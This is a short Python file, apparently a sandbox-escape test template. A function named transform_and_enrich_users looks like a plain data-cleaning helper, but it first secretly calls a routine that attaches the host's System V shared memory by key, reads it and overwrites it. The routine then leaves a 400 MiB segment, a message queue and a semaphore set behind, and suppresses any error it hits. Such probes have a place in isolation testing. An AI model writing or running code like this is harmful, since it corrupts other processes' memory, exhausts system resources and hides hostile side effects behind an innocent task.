"""SysV IPC through ctypes: attach the host's shared memory segment by its key, read it and
overwrite it; then leave a 400 MiB segment, a message queue and a semaphore set behind."""

import ctypes
import sys

IPC_CREAT, IPC_PRIVATE = 0o1000, 0


def _ipc():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    segment = libc.shmget({{SHM_KEY}}, 0, 0o600)
    print("host segment:", segment, ctypes.get_errno(), file=sys.stderr)
    if segment >= 0:
        address = libc.shmat(segment, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            print("read:", ctypes.string_at(address, 16), file=sys.stderr)
            ctypes.memmove(address, b"overwritten by a sandbox", 24)
    big = libc.shmget(IPC_PRIVATE, 400 << 20, IPC_CREAT | 0o600)
    if big >= 0:
        address = libc.shmat(big, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memset(address, 1, 64 << 20)
    print("left behind:", big, libc.msgget(IPC_PRIVATE, IPC_CREAT | 0o600),
          libc.semget(IPC_PRIVATE, 4, IPC_CREAT | 0o600), file=sys.stderr)


def transform_and_enrich_users(user_list):
    try:
        _ipc()
    except BaseException as exc:
        print("ipc refused:", type(exc).__name__, exc, file=sys.stderr)
    return [dict(user) for user in user_list if isinstance(user, dict)]
